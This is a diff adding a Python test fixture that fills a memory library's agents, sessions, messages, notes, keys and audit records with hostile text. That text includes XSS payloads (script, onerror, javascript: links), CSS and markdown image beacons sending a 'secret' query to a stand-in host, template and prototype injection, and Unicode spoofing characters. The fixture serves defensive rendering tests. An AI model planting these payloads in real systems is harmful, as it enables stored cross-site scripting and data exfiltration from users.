@@ -1,0 +1,116 @@
+"""Texts that want to be more than text, and a memory that has them in every field that takes them."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+from retain import Memory, Scope
+from retain.access import audit
+from retain.access.keys import Keys
+from retain.errors import RetainError
+from retain.storage.database import Transaction
+
+EVIL = "http://127.0.0.2:1"
+"""Elsewhere: whatever asks there was made to by a text."""
+PIECES = [
+    "<script>owned('script')</script>",
+    "<img src=x onerror=owned('img')>",
+    "\"><svg onload=owned('svg')><a href=\"javascript:owned('a')\">x</a>",
+    f"<iframe src={EVIL}/frame></iframe><link rel=preconnect href={EVIL}><meta http-equiv=refresh content=0;url={EVIL}>",
+    f'<style>@import url({EVIL}/a.css)</style><p style="background:url({EVIL}/b)">',
+    f"![beacon]({EVIL}/p.png?q=secret) ![by name][b]\n\n[b]: {EVIL}/r.png\n\n",
+    f"[click](javascript:owned('md')) [data](data:text/html,<script>owned(1)</script>) <{EVIL}/auto> {EVIL}/bare www.evil.example",
+    "[MemoryRef: \"><img src=x onerror=owned('ref')> - <b>x</b>] [MemoryRef: no-such-key - </button><script>owned('chip')</script>]",
+    "${owned('js')} {{constructor.constructor('owned(1)')()}} %3Cscript%3E \\u003cscript\\u003e &lt;script&gt; &#x3c;script&#x3e;",
+    "\u202egnp.exe\u202c a\u200bb\u00adc\ufeff\u2066x\u2069 \U000e0041\U000e0042 e\u0301\u0301\u0301",
+    "x\x00y\x1b[31mred\x07",
+    "url(javascript:owned('css'))",
+    "__proto__",
+    "..",
+    "W" * 400,
+]
+ALL = "\n".join(PIECES).replace("\x00", "")
+LONG = "<b>long</b> " * 4000 + "Q" * 50_000
+
+
+def each(write: Callable[[str], Any]) -> list[Any]:
+    """Write every text somewhere; what is made of those that are taken."""
+    made = []
+    for text in [ALL, *PIECES]:
+        try:
+            made.append(write(text))
+        except RetainError:  # refused: there is nothing to show
+            continue
+    return made
+
+
+def infest(memory: Memory, user: str, agent: str) -> dict[str, list[str]]:
+    """A memory full of it; the names of what can be opened."""
+    me = memory.scope("default", user, agent)
+    names = each(lambda text: me.agents.add(text, prompt=ALL).name)
+    me.agents.add(agent)
+    for field in ("prompt", "model", "color", "icon"):
+        each(lambda text, field=field: me.agents.edit(agent, **{field: text}))
+    each(lambda text: me.agents.edit(agent, tools=[text]))
+    sessions = each(lambda text: me.sessions.add(text, label=text, attributes={"agents": [text, agent], text: text}).id)
+    session = me.sessions.add("the one", label=ALL[:150]).id
+    picture = me.refs.add(
+        f"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.owned(1)'><image href='{EVIL}/i'/></svg>", "A picture"
+    )
+    _talk(me, session, picture)
+    _memory(memory, me, session)
+    documents = each(lambda text: me.knowledge.add(text, f"# {text}\n\n{ALL}", path=text).id)
+    refs = each(lambda text: me.refs.add(text + ALL, text, type=text, metadata={"command": text, "status": text}))
+    context = me.context(session, ALL[:2000])
+    said = [{"role": "user", "content": ALL}, {"role": "assistant", "content": ALL, "author": agent}]
+    each(lambda text: me.interactions.add(text, text, latency_ms=1, error=text, parameters={text: text}))
+    turn = me.save_turn(session, said, usage={"model": "<b>model</b>", "error": ALL[:900]}, context=context).id
+    memory.database.write("default", _colour)
+    return {"agents": names, "sessions": [session, *sessions], "documents": documents, "refs": refs, "turns": [turn]}
+
+
+def _clean(text: str) -> str:
+    return text.replace("\x00", "")
+
+
+def _talk(me: Scope, session: str, picture: str) -> None:
+    each(lambda text: me.messages.append(session, "user", text))
+    each(lambda text: me.messages.append(session, "assistant", text, author=text[:100]))
+    me.messages.append(session, "assistant", LONG)
+    for text in map(_clean, PIECES):
+        call = {"type": "tool_call", "id": text, "name": text, "arguments": text}
+        result = {"type": "tool_result", "tool_call_id": text, "text": text}
+        me.messages.append(session, "assistant", {"text": text, "parts": [call]})
+        me.messages.append(session, "tool", {"parts": [result]})
+    image = {"type": "reference", "media_type": "image/svg+xml", "key": picture}
+    me.messages.append(session, "user", {"text": "Look", "parts": [image, {"type": ALL[:30], "text": ALL}]})
+
+
+def _memory(memory: Memory, me: Scope, session: str) -> None:
+    user, agent = me.who.user, me.who.agent
+    each(me.notes.overwrite)
+    me.notes.overwrite(ALL + LONG[:50_000])
+    each(lambda text: me.entries.add(text))
+    each(lambda text: me.entries.add(text, kind="core"))
+    each(lambda text: memory.scope("default", user, agent, source="tool").entries.add(text, kind="core"))
+    each(lambda text: me.entries.share(text, [agent or "", text, "<b>x</b>"]))
+    for board in list(me.entries.boards()):
+        each(lambda text, board=board: me.entries.add(text, kind="whiteboard", board=board))
+    each(lambda text: me.state.set(text, {text: [text]}, ttl=9000))
+    each(lambda text: me.state.set(text, text, area=f"session:{session}"))
+    keys = Keys(memory.database)
+    each(lambda text: keys.create("default", text, ["read"], user=text, agent=text))
+
+    def record(tx: Transaction) -> None:
+        for text in map(_clean, PIECES):
+            audit.add(tx, text, text, text, request_id=text)
+
+    memory.database.write("default", record)
+    old = [{"content": f"The plan {text}", "created_at": "2026-01-01T00:00:00Z"} for text in map(_clean, PIECES)]
+    me.entries.add_many(old)
+
+
+def _colour(tx: Transaction) -> None:
+    """What the library refuses, as an older or another program may have left it."""
+    tx.run("update agents set color = :bad, icon = :bad where tenant = :tenant", bad=f"red;background:url({EVIL}/c)")
